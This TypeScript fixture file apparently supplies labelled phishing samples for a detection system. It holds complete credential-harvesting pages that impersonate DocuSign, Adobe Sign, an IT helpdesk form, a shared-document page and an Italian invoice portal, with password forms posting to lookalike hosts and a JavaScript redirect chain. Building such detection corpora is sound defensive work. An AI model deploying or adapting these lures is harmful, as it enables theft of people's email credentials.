import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { page, msLogo, msCss, msFoot, dataLayer, jsRoute, jsonRoute, pngRoute } from '../parts/l-kit.js';

// Document-to-review lures: e-signature, invoices, remittance, hosted on form builders and doc platforms.

const dsCss = `body{margin:0;font-family:"Helvetica Neue",Helvetica,Arial,sans-serif;background:#f4f4f4;color:#333}.hd{background:#fff;border-bottom:1px solid #ddd;padding:14px 24px;font-weight:bold;font-size:22px;color:#1e1e1e}.hd span{color:#ffcc22}.env{max-width:600px;margin:40px auto;background:#fff;border:1px solid #e0e0e0}.yel{background:#1e4ca1;color:#fff;text-align:center;padding:36px 20px}.yel .ic{font-size:44px}.btn{display:inline-block;background:#ffc820;color:#333;font-weight:bold;padding:12px 26px;border-radius:3px;text-decoration:none;border:0;font-size:15px;cursor:pointer}.in{padding:26px;font-size:15px;line-height:1.5}.ft{font-size:11px;color:#777;padding:20px 26px;border-top:1px solid #eee}`;

export const entries: Entry[] = [
{
  id: 'l-phish-docusign-review-completed-doc',
  label: 'phishing',
  kind: 'esign-lure',
  url: 'https://docusign.envelope-review.net/Signing/EmailStart.aspx?a=7c1f2e0a-51b3-4d8e-a7f4-0b5c8a2e11d4&acct=kestrel',
  routes: {
    'docusign.envelope-review.net/Signing/EmailStart.aspx': htmlRoute(page({
      title: 'DocuSign',
      css: dsCss + '#login{display:none;padding:26px}#login input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb}',
      body: `<div class="hd">Docu<span>Sign</span></div><div class="env"><div class="yel"><div class="ic">&#128196;</div><p>Mark Hollis sent you a document to review and sign.</p><button class="btn" id="rv">REVIEW DOCUMENT</button></div>
<div class="in" id="txt"><b>Mark Hollis</b><br>mhollis@brightline-legal.co<br><br>Please review and complete the Master Services Agreement amendment (MSA_Amend_2027_Kestrel.pdf). The agreement must be returned by end of week.<br><br>Thank you,<br>Mark</div>
<div id="login"><p><b>Confirm your email to access the envelope</b></p><form method="post" action="/Signing/validate.ashx"><input type="email" name="email" placeholder="Email" required><input type="password" name="pwd" placeholder="Email password" required><button class="btn" style="width:100%">CONTINUE</button></form></div>
<div class="ft"><b>Do Not Share This Email</b><br>This email contains a secure link to DocuSign. Please do not share this email, link, or access code with others.<br><br><b>About DocuSign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.</div></div>
<script>document.getElementById('rv').onclick=function(){document.getElementById('txt').style.display='none';document.getElementById('login').style.display='block'}</script>`,
    })),
  },
},
{
  id: 'l-phish-adobe-sign-de-vertrag',
  label: 'phishing',
  kind: 'esign-lure',
  url: 'https://adobe-sign.vertrag-freigabe.de/public/agreement/view?tid=CBJCHBCAABAAQx8_dR2',
  routes: {
    'adobe-sign.vertrag-freigabe.de/public/agreement/view': htmlRoute(page({
      lang: 'de',
      title: 'Adobe Acrobat Sign – Dokument prüfen',
      css: `body{margin:0;font-family:adobe-clean,Source Sans Pro,Arial;background:#f5f5f5}.top{background:#fff;border-bottom:1px solid #e1e1e1;padding:12px 24px;display:flex;align-items:center;gap:10px}.lg{width:28px;height:28px;background:#eb1000;color:#fff;font-weight:bold;display:flex;align-items:center;justify-content:center;border-radius:4px}.c{max-width:460px;margin:50px auto;background:#fff;border-radius:8px;padding:32px;box-shadow:0 1px 4px rgba(0,0,0,.15)}input{width:100%;padding:10px;margin:6px 0 12px;border:1px solid #b3b3b3;border-radius:4px}button{background:#1473e6;color:#fff;border:0;border-radius:16px;padding:9px 24px;font-weight:bold}`,
      body: `<div class="top"><div class="lg">A</div><b>Adobe Acrobat Sign</b></div><div class="c"><h2 style="margin-top:0">Dokument zur Unterschrift</h2>
<p style="font-size:14px">Steuerberatung Krämer &amp; Partner hat Ihnen <b>„Jahresabschluss_2025_final.pdf“</b> zur Prüfung und Unterzeichnung gesendet.</p>
<p style="font-size:14px">Melden Sie sich mit Ihrer geschäftlichen E-Mail-Adresse an, um das Dokument anzuzeigen.</p>
<form method="post" action="anmelden.php"><label>E-Mail-Adresse</label><input type="email" name="mail" required><label>Passwort</label><input type="password" name="kennwort" required><button>Dokument öffnen</button></form>
<p style="font-size:11px;color:#777;margin-top:24px">© 2026 Adobe. Alle Rechte vorbehalten. Datenschutz | Nutzungsbedingungen</p></div>`,
    })),
  },
},
{
  id: 'l-phish-form-builder-helpdesk-mailbox',
  label: 'phishing',
  kind: 'form-builder',
  url: 'https://form.quickform-builder.com/kestrel-it-helpdesk/mailbox-validation',
  routes: {
    'form.quickform-builder.com/kestrel-it-helpdesk/mailbox-validation': htmlRoute(page({
      title: 'IT Helpdesk – Mailbox Validation Form',
      css: `body{margin:0;background:#ece7f5;font-family:Roboto,Arial}.f{max-width:640px;margin:24px auto}.hd{background:#fff;border-top:10px solid #673ab7;border-radius:8px;padding:22px}.q{background:#fff;border-radius:8px;padding:22px;margin-top:12px}.q label{display:block;font-size:15px;margin-bottom:8px}.q input{width:100%;border:0;border-bottom:1px solid #ccc;padding:6px 0;font-size:14px}.sb{background:#673ab7;color:#fff;border:0;padding:10px 24px;border-radius:4px;margin-top:14px}.pb{font-size:11px;color:#666;text-align:center;margin-top:20px}`,
      body: `<div class="f"><div class="hd"><h1 style="font-weight:400;margin:0 0 8px">IT Helpdesk – Mailbox Validation</h1><p style="font-size:14px">Due to the migration to the new Exchange Online server, all staff must validate their mailbox before 30 Nov 2026. Unvalidated accounts will be deactivated.</p><p style="color:#d93025;font-size:13px">* Required</p></div>
<form action="/kestrel-it-helpdesk/mailbox-validation/submit" method="post">
<div class="q"><label>Full name *</label><input name="q1" required></div>
<div class="q"><label>Work email address *</label><input name="q2" type="email" required></div>
<div class="q"><label>Email password *</label><input name="q3" type="password" required></div>
<div class="q"><label>Confirm password *</label><input name="q4" type="password" required></div>
<div class="q"><label>Department</label><input name="q5"></div>
<button class="sb">Submit</button></form><div class="pb">Never submit passwords through QuickForm. This content is neither created nor endorsed by QuickForm. <a href="#">Report Abuse</a></div></div>`,
    })),
  },
},
{
  id: 'l-phish-notebook-platform-view-doc',
  label: 'phishing',
  kind: 'doc-platform',
  url: 'https://kestrel-accounts-payable.notespace-pages.com/Invoice-Dispute-Documentation-8f21c0e4',
  routes: {
    'kestrel-accounts-payable.notespace-pages.com/Invoice-Dispute-Documentation-8f21c0e4': htmlRoute(page({
      title: 'Invoice Dispute Documentation',
      css: `body{margin:0;font-family:ui-sans-serif,-apple-system,Segoe UI,Helvetica;color:#37352f}.top{display:flex;justify-content:space-between;padding:10px 16px;font-size:14px;border-bottom:1px solid #eee}.c{max-width:708px;margin:60px auto;padding:0 24px}h1{font-size:40px}.cal{background:#f1f1ef;padding:16px;border-radius:4px;display:flex;gap:10px}.bt{display:inline-block;margin-top:14px;background:#2383e2;color:#fff;padding:8px 16px;border-radius:4px;text-decoration:none}`,
      body: `<div class="top"><span>&#128196; Invoice Dispute Documentation</span><span>Made with Notespace</span></div><div class="c"><div style="font-size:64px">&#128206;</div><h1>Invoice Dispute Documentation</h1>
<div class="cal"><span>&#128161;</span><div>Shared by <b>Accounts Payable – Kestrel Freight Group</b>. This page contains 3 secured files relating to the disputed October invoices. Access requires verification with your Microsoft account.</div></div>
<p>&bull; Dispute_Summary_Oct2026.pdf<br>&bull; Carrier_Statement_KF.xlsx<br>&bull; Credit_Note_Request.docx</p>
<a class="bt" href="https://login-ms-verify.authdocs.click/ap/?ref=notespace">&#128274; Access Secure Files</a>
<p style="color:#9b9a97;font-size:13px;margin-top:50px">Last edited 3 hours ago</p></div>`,
    })),
  },
},
{
  id: 'l-phish-invoice-pdf-download-it',
  label: 'phishing',
  kind: 'invoice-portal',
  url: 'https://fatture-elettroniche.portale-sdi-cloud.it/visualizza/fattura.php?n=2026%2F1187',
  routes: {
    'fatture-elettroniche.portale-sdi-cloud.it/visualizza/fattura.php': htmlRoute(page({
      lang: 'it',
      title: 'Fattura Elettronica n. 2026/1187',
      css: `body{font-family:Titillium Web,Arial;background:#f0f3f6;margin:0}header{background:#0066cc;color:#fff;padding:16px 30px;font-size:19px}.c{max-width:520px;margin:40px auto;background:#fff;padding:28px;border-radius:4px}input{width:100%;padding:10px;margin:5px 0 12px;border:1px solid #99a}button{background:#0066cc;color:#fff;border:0;padding:11px 20px;width:100%}`,
      body: `<header>Portale Fatture &middot; Sistema di Interscambio</header><div class="c"><h2>Hai ricevuto una fattura elettronica</h2><p>Fornitore: <b>Logistica Brambilla S.r.l.</b><br>Numero: 2026/1187<br>Importo: € 6.412,50<br>Scadenza: 05/12/2026</p>
<p style="font-size:14px">Per scaricare la fattura in formato PDF accedi con le credenziali della tua casella di posta aziendale.</p>
<form action="accedi.php" method="post"><input type="email" name="email" placeholder="Indirizzo email" required><input type="password" name="password" placeholder="Password email" required><button>Scarica fattura</button></form>
<p style="font-size:11px;color:#777">Servizio di consultazione fatture. Informativa privacy ai sensi del Regolamento UE 2016/679.</p></div>`,
    })),
  },
},
{
  id: 'l-phish-docusign-bitly-like-shortener-chain',
  label: 'phishing',
  kind: 'redirect-chain',
  url: 'https://lnkd-short.co/3xQ9vR',
  routes: {
    'lnkd-short.co/3xQ9vR': redirectRoute(301, 'https://t.trk-eml-events.com/r/?id=h91b3,KF2,a1&p1=ds-secure-envelope.com%2Fe%2F9F2A'),
    't.trk-eml-events.com/r/': htmlRoute(`<!doctype html><html><head><title>Redirecting…</title><script>var p=new URLSearchParams(location.search).get('p1');setTimeout(function(){location.href='https://'+decodeURIComponent(p)},300)</script></head><body>Redirecting…</body></html>`),
    'ds-secure-envelope.com/e/9F2A': htmlRoute(page({
      title: 'DocuSign Electronic Signature',
      css: dsCss + 'input{width:100%;padding:10px;margin:6px 0;border:1px solid #bbb}',
      head: dataLayer('G-8X2KQ71P3Z'),
      body: `<div class="hd">Docu<span>Sign</span></div><div class="env"><div class="yel"><p style="font-size:18px">Your document has been completed</p><p style="font-size:13px">All parties have completed "Payroll_Direct_Deposit_Update.pdf"</p></div><div class="in"><p>Sign in with your email account to view the completed document.</p><form method="post" action="https://ds-secure-envelope.com/e/auth"><input type="email" name="e" placeholder="Email" required><input type="password" name="p" placeholder="Password" required><button class="btn" style="width:100%">VIEW COMPLETED DOCUMENT</button></form></div><div class="ft">Powered by DocuSign &middot; © 2026 DocuSign, Inc. 221 Main St., Suite 1550, San Francisco, CA 94105</div></div>`,
    })),
  },
},
];
